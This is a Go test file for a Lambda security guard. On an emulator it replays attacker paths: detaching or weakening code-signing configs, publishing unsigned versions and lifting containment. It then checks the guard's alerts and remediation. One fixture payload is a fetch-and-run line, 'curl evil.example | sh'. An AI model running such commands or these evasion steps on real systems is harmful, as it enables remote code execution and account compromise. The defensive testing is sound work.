package lambdaguard_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/rs/zerolog"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
	"github.com/selfguard/selfguard/shared/alert"
	"github.com/selfguard/selfguard/shared/cloudtrail"
	"github.com/selfguard/selfguard/shared/finding"
	"github.com/selfguard/selfguard/shared/lambdaguard"
	"github.com/selfguard/selfguard/shared/ledger"
	"github.com/selfguard/selfguard/shared/pipeline"
)

// The paths of docs/threat-model.md ("Untrusted code kept running") played
// on the emulator through the pipeline: every CloudTrail event the emulator
// recorded is handed to the guard, as EventBridge would, after the attacker
// is done, so that each event finds the state as it is at the end.

// pathsWorld: shop is a healthy release (signed $LATEST, versions 1 and 2
// signed, prod on 2, the Enforce CSC); orphan runs unsigned code with no
// trusted version to come back to.
func pathsWorld() lambdaemu.World {
	w := world()
	w.Functions = []lambdaemu.FunctionWorld{
		{Name: "shop", CodeWorld: signedFiles("release 2"), CodeSigningConfig: cscID,
			Versions: []lambdaemu.VersionWorld{{CodeWorld: signedFiles("release 1")}, {CodeWorld: signedFiles("release 2")}},
			Aliases:  []lambdaemu.AliasWorld{{Name: "prod", FunctionVersion: "2"}}},
		{Name: "orphan", CodeWorld: files("backdoor"), CodeSigningConfig: cscID, ReservedConcurrency: aws.Int32(7),
			Versions: []lambdaemu.VersionWorld{{CodeWorld: files("never signed")}}},
	}
	return w
}

// recorder keeps the alerts the pipeline sends.
type recorder struct {
	mu   sync.Mutex
	sent []alert.Alert
}

func (r *recorder) Send(_ context.Context, a alert.Alert) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.sent = append(r.sent, a)
	return nil
}

func (r *recorder) alerts() []alert.Alert {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]alert.Alert(nil), r.sent...)
}

// of returns the alerts of a rule on a resource.
func (r *recorder) of(rule finding.RuleID, resource string) []alert.Alert {
	var out []alert.Alert
	for _, a := range r.alerts() {
		if a.Finding.Rule == rule && a.Finding.Resource == resource {
			out = append(out, a)
		}
	}
	return out
}

func (r *recorder) String() string {
	var s []string
	for _, a := range r.alerts() {
		s = append(s, string(a.Finding.Rule)+" "+a.Finding.Resource+": "+a.Finding.Summary)
	}
	return "[" + strings.Join(s, "; ") + "]"
}

// line is the guard's pipeline over a bed: the handler as lambda-guard
// wires it, and how far into the trail it has been fed.
type line struct {
	b       *bed
	h       *pipeline.Handler
	ledger  *ledger.Memory
	alerted *recorder
	fed     int64
}

func newLine(b *bed) *line {
	l := &line{b: b, ledger: &ledger.Memory{}, alerted: &recorder{}}
	cfg := b.guard.Settings
	cfg.GuardRoleARNs = []string{"arn:aws:iam::" + account + ":role/" + emulator.GuardRoleName}
	b.guard.Settings = cfg
	wireLedger(b.guard, l.ledger)
	l.h = &pipeline.Handler{Name: "lambda-guard", Evaluator: b.guard, Settings: cfg, Alerter: l.alerted,
		Ledger: l.ledger, Logger: zerolog.Nop()}
	return l
}

// skip moves past everything recorded so far (the world's set-up).
func (l *line) skip() {
	if evs := l.b.srv.Env.Trail.Since(l.fed); len(evs) > 0 {
		l.fed = evs[len(evs)-1].Seq
	}
}

// deliver hands every recorded event to the handler, the guard's own
// writes included, until the trail is quiet.
func (l *line) deliver(t *testing.T) {
	t.Helper()
	for round := 0; ; round++ {
		evs := l.b.srv.Env.Trail.Since(l.fed)
		if len(evs) == 0 {
			return
		}
		if round > 10 {
			t.Fatalf("the trail never came to rest: %d more events", len(evs))
		}
		for _, ev := range evs {
			l.fed = ev.Seq
			var e events.CloudWatchEvent
			if err := json.Unmarshal(ev.Event, &e); err != nil {
				t.Fatal(err)
			}
			if err := l.h.Handle(context.Background(), e); err != nil {
				t.Fatalf("handle %s: %v", e.ID, err)
			}
		}
	}
}

// guardWrites counts the guard's successful writes in the trail.
func (l *line) guardWrites(t *testing.T) map[string]int {
	t.Helper()
	out := map[string]int{}
	role := "arn:aws:iam::" + account + ":role/" + emulator.GuardRoleName
	for _, ev := range l.b.srv.Env.Trail.Since(0) {
		_, rec, err := cloudtrail.ParseEnvelope(ev.Event)
		if err != nil {
			t.Fatal(err)
		}
		if rec.UserIdentity.IssuerARN() == role && !rec.Failed() {
			out[string(rec.Operation())]++
		}
	}
	return out
}

func (b *bed) settled(t *testing.T, fn string) {
	t.Helper()
	w := lambda.NewFunctionUpdatedV2Waiter(b.as(emulator.ActorAdmin), func(o *lambda.FunctionUpdatedV2WaiterOptions) {
		o.MinDelay, o.MaxDelay = 20*time.Millisecond, 200*time.Millisecond
	})
	if err := w.Wait(context.Background(), &lambda.GetFunctionInput{FunctionName: aws.String(fn)}, 10*time.Second); err != nil {
		t.Fatalf("%s did not settle: %v", fn, err)
	}
}

func (b *bed) versionExists(t *testing.T, fn, v string) bool {
	t.Helper()
	_, err := b.as(emulator.ActorAdmin).GetFunction(context.Background(), &lambda.GetFunctionInput{FunctionName: aws.String(fn), Qualifier: aws.String(v)})
	var nf *types.ResourceNotFoundException
	if err != nil && !errors.As(err, &nf) {
		t.Fatalf("get %s:%s: %v", fn, v, err)
	}
	return err == nil
}

func (b *bed) reserved(t *testing.T, fn string) *int32 {
	t.Helper()
	if c := b.latest(t, fn).Concurrency; c != nil {
		return c.ReservedConcurrentExecutions
	}
	return nil
}

// cscGap is path 1: for a few seconds shop has no code signing config,
// and an unsigned version is published in the gap; then everything is put
// back, so that every event finds $LATEST signed and the CSC attached.
func cscGap(t *testing.T, b *bed) (unsignedVersion, unsignedSha string) {
	t.Helper()
	ctx := context.Background()
	m := b.as(emulator.ActorAttacker)
	if _, err := m.DeleteFunctionCodeSigningConfig(ctx, &lambda.DeleteFunctionCodeSigningConfigInput{FunctionName: aws.String("shop")}); err != nil {
		t.Fatal(err)
	}
	evil := lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\ncurl evil.example | sh\n"})
	out, err := m.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String("shop"), ZipFile: evil, Publish: true})
	if err != nil {
		t.Fatal(err)
	}
	b.settled(t, "shop")
	if _, err := m.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{
		FunctionName: aws.String("shop"), CodeSigningConfigArn: aws.String(cscARN)}); err != nil {
		t.Fatal(err)
	}
	release, _, err := b.srv.Lambda.Sign("release", lambdaemu.ZipOf(map[string]string{"bootstrap": "release 2"}))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String("shop"), ZipFile: release}); err != nil {
		t.Fatal(err)
	}
	b.settled(t, "shop")
	return aws.ToString(out.Version), sha(evil)
}

// TestAVersionPublishedInACodeSigningGapIsJudged: every event of path 1
// finds a good $LATEST and an attached CSC, yet the unsigned version stays
// invocable by its qualified ARN. The publish event judges that version
// (it is in the event's response), and the detach is alerted from the
// event itself.
func TestAVersionPublishedInACodeSigningGapIsJudged(t *testing.T) {
	b := newBedWith(t, pathsWorld())
	l := newLine(b)
	l.skip()
	v, evilSha := cscGap(t, b)
	l.deliver(t)

	ver := b.version(t, "shop", v)
	if aws.ToString(ver.SigningProfileVersionArn) != "" {
		t.Fatalf("version %s is signed; the path needs it unsigned", v)
	}
	got := l.alerted.of("lambda.untrusted-version", "shop:"+v)
	if len(got) != 1 {
		t.Fatalf("%d untrusted-version alerts for shop:%s, want 1; alerts %s", len(got), v, l.alerted)
	}
	if a := got[0]; a.Finding.Severity != finding.SeverityHigh || !strings.Contains(a.Finding.Detail, evilSha) || a.Event.Actor != emulator.ActorAttacker {
		t.Errorf("alert %+v: want high, the version's sha256 %s, and mallory as the actor", a.Finding, evilSha)
	}
	detached := l.alerted.of("lambda.csc-detached", "shop")
	if len(detached) != 1 {
		t.Fatalf("%d csc-detached alerts, want 1; alerts %s", len(detached), l.alerted)
	}
	for _, want := range []string{"mallory", "attached again", "unsigned version " + v} {
		if !strings.Contains(detached[0].Finding.Summary, want) {
			t.Errorf("csc-detached summary %q does not say %q", detached[0].Finding.Summary, want)
		}
	}
	if w := l.guardWrites(t); len(w) != 0 {
		t.Errorf("the guard wrote %v; deleting a version is opt-in", w)
	}
	if !b.versionExists(t, "shop", v) {
		t.Error("the version was deleted without the opt-in")
	}
}

// TestLiftedContainmentIsPutBack is path 3: the guard contained orphan (its
// code is untrusted and there is nothing trusted to restore); mallory
// deletes the reserved concurrency. The containment holds while its
// finding holds, so the guard puts it back and says who lifted it.
func TestLiftedContainmentIsPutBack(t *testing.T) {
	b := newBedWith(t, pathsWorld())
	l := newLine(b)
	ctx := context.Background()
	l.skip()
	if _, err := b.as(emulator.ActorAttacker).UpdateFunctionConfiguration(ctx, &lambda.UpdateFunctionConfigurationInput{
		FunctionName: aws.String("orphan"), Description: aws.String("nothing to see")}); err != nil {
		t.Fatal(err)
	}
	b.settled(t, "orphan")
	l.deliver(t)
	if r := b.reserved(t, "orphan"); r == nil || *r != 0 {
		t.Fatalf("orphan not contained first: reserved %v; alerts %s", r, l.alerted)
	}
	if _, err := b.as(emulator.ActorAttacker).DeleteFunctionConcurrency(ctx, &lambda.DeleteFunctionConcurrencyInput{FunctionName: aws.String("orphan")}); err != nil {
		t.Fatal(err)
	}
	l.deliver(t)
	if r := b.reserved(t, "orphan"); r == nil || *r != 0 {
		t.Errorf("containment lifted by mallory stays lifted: reserved %v", r)
	}
	lifted := l.alerted.of("lambda.containment-lifted", "orphan")
	if len(lifted) != 1 {
		t.Fatalf("%d containment-lifted alerts, want 1; alerts %s", len(lifted), l.alerted)
	}
	if a := lifted[0]; a.Event.Actor != emulator.ActorAttacker || !strings.Contains(a.Finding.Summary, "mallory") {
		t.Errorf("alert %+v does not name mallory", a.Finding)
	}
	if w := l.guardWrites(t)["PutFunctionConcurrency"]; w != 2 {
		t.Errorf("the guard set concurrency %d times, want 2 (contain, contain again)", w)
	}
}

// TestLiftingAContainmentWhoseFindingIsGoneIsFine: once $LATEST runs trusted
// code, the containment's reason is gone and lifting it is the fix.
func TestLiftingAContainmentWhoseFindingIsGoneIsFine(t *testing.T) {
	b := newBedWith(t, pathsWorld())
	l := newLine(b)
	ctx := context.Background()
	l.skip()
	if _, err := b.as(emulator.ActorAttacker).UpdateFunctionConfiguration(ctx, &lambda.UpdateFunctionConfigurationInput{
		FunctionName: aws.String("orphan"), Description: aws.String("nothing to see")}); err != nil {
		t.Fatal(err)
	}
	b.settled(t, "orphan")
	l.deliver(t)
	release, _, err := b.srv.Lambda.Sign("release", lambdaemu.ZipOf(map[string]string{"bootstrap": "fixed"}))
	if err != nil {
		t.Fatal(err)
	}
	ci := b.as(emulator.ActorCI)
	if _, err := ci.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String("orphan"), ZipFile: release}); err != nil {
		t.Fatal(err)
	}
	b.settled(t, "orphan")
	if _, err := ci.DeleteFunctionConcurrency(ctx, &lambda.DeleteFunctionConcurrencyInput{FunctionName: aws.String("orphan")}); err != nil {
		t.Fatal(err)
	}
	before := len(l.alerted.alerts())
	l.deliver(t)
	if r := b.reserved(t, "orphan"); r != nil {
		t.Errorf("trusted code contained again: reserved %d", *r)
	}
	if n := len(l.alerted.alerts()) - before; n != 0 {
		t.Errorf("%d alerts after a legitimate fix; alerts %s", n, l.alerted)
	}
}

// raceAPI lets a signed deploy land between the guard's restore and its
// verification read: path 4.
type raceAPI struct {
	*lambda.Client
	mu      sync.Mutex
	armed   bool
	between func()
}

func (r *raceAPI) UpdateFunctionCode(ctx context.Context, in *lambda.UpdateFunctionCodeInput, optFns ...func(*lambda.Options)) (*lambda.UpdateFunctionCodeOutput, error) {
	out, err := r.Client.UpdateFunctionCode(ctx, in, optFns...)
	if err == nil {
		r.mu.Lock()
		r.armed = true
		r.mu.Unlock()
	}
	return out, err
}

func (r *raceAPI) GetFunction(ctx context.Context, in *lambda.GetFunctionInput, optFns ...func(*lambda.Options)) (*lambda.GetFunctionOutput, error) {
	r.mu.Lock()
	fire := r.armed && in.Qualifier == nil
	r.armed = r.armed && !fire
	r.mu.Unlock()
	if fire {
		r.between()
	}
	return r.Client.GetFunction(ctx, in, optFns...)
}

// TestASignedDeployDuringTheRestoreIsNotContained is path 4: CI's signed
// deploy lands after the guard restored version 2 and before it read the
// result back. The mismatch means "decide again": $LATEST is trusted and
// prod routes to a trusted version, so nothing is contained.
func TestASignedDeployDuringTheRestoreIsNotContained(t *testing.T) {
	b := newBed(t)
	ctx := context.Background()
	ci, _, err := b.srv.Lambda.Sign("release", lambdaemu.ZipOf(map[string]string{"bootstrap": "v3 from CI"}))
	if err != nil {
		t.Fatal(err)
	}
	api := &raceAPI{Client: b.as(emulator.ActorGuard)}
	api.between = func() {
		b.settled(t, "pay")
		if _, err := b.as(emulator.ActorCI).UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String("pay"), ZipFile: ci}); err != nil {
			t.Errorf("CI deploy: %v", err)
		}
		b.settled(t, "pay")
	}
	g := rewire(b, api)
	d, err := g.Evaluate(ctx, fn("pay"))
	if err != nil || len(d.Actions) != 1 {
		t.Fatalf("decision %+v, %v", d, err)
	}
	o := g.Act(ctx, fn("pay"), d.Actions[0])
	if r := b.reserved(t, "pay"); r != nil && *r == 0 {
		t.Fatalf("a trusted release was contained: outcome %+v", o)
	}
	if got := aws.ToString(b.latest(t, "pay").Configuration.CodeSha256); got != sha(ci) {
		t.Errorf("$LATEST sha %s, want CI's %s", got, sha(ci))
	}
	if o.Status == pipeline.OutcomeFailed || o.Taken != nil && o.Taken.Kind == "lambda.contain" {
		t.Errorf("outcome %+v, want the restore judged again and found not needed", o)
	}
}

// rewire gives the bed's settings to a guard calling through api.
func rewire(b *bed, api lambdaguard.API) *lambdaguard.Guard {
	g := lambdaguard.New(api, b.guard.Settings)
	g.Remediator.WaitMin, g.Remediator.WaitMax = 50*time.Millisecond, time.Second
	return g
}

// wireLedger lets the guard read what it contained from the ledger.
func wireLedger(g *lambdaguard.Guard, l *ledger.Memory) { g.History = l }

// TestWithTheOptInTheGapVersionIsDeleted: DeleteUntrustedVersions lets
// enforce mode make the version uninvocable, keeping what it was.
func TestWithTheOptInTheGapVersionIsDeleted(t *testing.T) {
	b := newBedWith(t, pathsWorld())
	b.guard.Settings.DeleteUntrustedVersions = true
	b.guard.Remediator.Settings.DeleteUntrustedVersions = true
	l := newLine(b)
	l.skip()
	v, evilSha := cscGap(t, b)
	l.deliver(t)
	if b.versionExists(t, "shop", v) {
		t.Fatalf("version %s still exists; alerts %s", v, l.alerted)
	}
	got := l.alerted.of("lambda.untrusted-version", "shop:"+v)
	if len(got) != 1 || len(got[0].Actions) != 1 || got[0].Actions[0].Status != alert.StatusDone {
		t.Fatalf("alerts %+v, want one with the deletion done", got)
	}
	if msg := got[0].Actions[0].Message; !strings.Contains(msg, evilSha) || !strings.Contains(msg, "provided.al2023") {
		t.Errorf("the alert does not keep the deleted version's sha256 and configuration: %q", msg)
	}
	if w := l.guardWrites(t); w["DeleteFunction"] != 1 || len(w) != 1 {
		t.Errorf("guard writes %v, want exactly one DeleteFunction", w)
	}
	if !b.versionExists(t, "shop", "2") {
		t.Error("the release prod routes to was deleted")
	}
}

// TestAWeakerConfigAttachedAndSwappedBackIsAlerted: mallory attaches a
// code signing config that only warns, deploys, and puts the enforcing one
// back; the attach event says what was done.
func TestAWeakerConfigAttachedAndSwappedBackIsAlerted(t *testing.T) {
	b := newBedWith(t, pathsWorld())
	l := newLine(b)
	ctx := context.Background()
	weak, err := b.as(emulator.ActorAttacker).CreateCodeSigningConfig(ctx, &lambda.CreateCodeSigningConfigInput{
		AllowedPublishers:   &types.AllowedPublishers{SigningProfileVersionArns: []string{aws.ToString(b.version(t, "shop", "2").SigningProfileVersionArn)}},
		CodeSigningPolicies: &types.CodeSigningPolicies{UntrustedArtifactOnDeployment: types.CodeSigningPolicyWarn},
	})
	if err != nil {
		t.Fatal(err)
	}
	l.skip()
	m := b.as(emulator.ActorAttacker)
	if _, err := m.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{
		FunctionName: aws.String("shop"), CodeSigningConfigArn: weak.CodeSigningConfig.CodeSigningConfigArn}); err != nil {
		t.Fatal(err)
	}
	if _, err := m.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{
		FunctionName: aws.String("shop"), CodeSigningConfigArn: aws.String(cscARN)}); err != nil {
		t.Fatal(err)
	}
	l.deliver(t)
	got := l.alerted.of("lambda.csc-weakened", "shop")
	if len(got) != 1 || !strings.Contains(got[0].Finding.Summary, "only warns") || !strings.Contains(got[0].Finding.Summary, "attached again since") {
		t.Fatalf("csc-weakened alerts %+v; all alerts %s", got, l.alerted)
	}
	if n := len(l.alerted.alerts()); n != 1 {
		t.Errorf("%d alerts, want 1: %s", n, l.alerted)
	}
}

// TestACodeSigningConfigSetToWarnAndBackIsAlerted: the configured CSC is
// set to Warn and back; its update event says so though the policy read
// afterwards enforces again.
func TestACodeSigningConfigSetToWarnAndBackIsAlerted(t *testing.T) {
	b := newBedWith(t, pathsWorld())
	l := newLine(b)
	ctx := context.Background()
	l.skip()
	m := b.as(emulator.ActorAttacker)
	for _, p := range []types.CodeSigningPolicy{types.CodeSigningPolicyWarn, types.CodeSigningPolicyEnforce} {
		if _, err := m.UpdateCodeSigningConfig(ctx, &lambda.UpdateCodeSigningConfigInput{
			CodeSigningConfigArn: aws.String(cscARN), CodeSigningPolicies: &types.CodeSigningPolicies{UntrustedArtifactOnDeployment: p}}); err != nil {
			t.Fatal(err)
		}
	}
	l.deliver(t)
	got := l.alerted.of("lambda.csc-weakened", cscARN)
	if len(got) != 1 || !strings.Contains(got[0].Finding.Summary, "set to Warn") || !strings.Contains(got[0].Finding.Summary, "enforces trusted publishers again") {
		t.Fatalf("csc-weakened alerts %+v; all alerts %s", got, l.alerted)
	}
}

// TestTheDetachEdgeListsEveryVersion: the versions named by the edge are
// listed with ListVersionsByFunction, which pages at 50.
func TestTheDetachEdgeListsEveryVersion(t *testing.T) {
	w := pathsWorld()
	busy := lambdaemu.FunctionWorld{Name: "busy", CodeWorld: signedFiles("release"), CodeSigningConfig: cscID}
	for i := 1; i <= 60; i++ {
		c := signedFiles(fmt.Sprintf("release %d", i))
		if i == 55 {
			c = files("gap")
		}
		busy.Versions = append(busy.Versions, lambdaemu.VersionWorld{CodeWorld: c})
	}
	w.Functions = append(w.Functions, busy)
	b := newBedWith(t, w)
	b.srv.Env.Clock.Advance(time.Hour) // the versions are an hour old
	l := newLine(b)
	ctx := context.Background()
	l.skip()
	m := b.as(emulator.ActorAttacker)
	if _, err := m.DeleteFunctionCodeSigningConfig(ctx, &lambda.DeleteFunctionCodeSigningConfigInput{FunctionName: aws.String("busy")}); err != nil {
		t.Fatal(err)
	}
	if _, err := m.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{
		FunctionName: aws.String("busy"), CodeSigningConfigArn: aws.String(cscARN)}); err != nil {
		t.Fatal(err)
	}
	l.deliver(t)
	got := l.alerted.of("lambda.csc-detached", "busy")
	if len(got) != 1 || !strings.Contains(got[0].Finding.Summary, "unsigned version 55 published before") {
		t.Fatalf("csc-detached alerts %+v; all %s", got, l.alerted)
	}
}
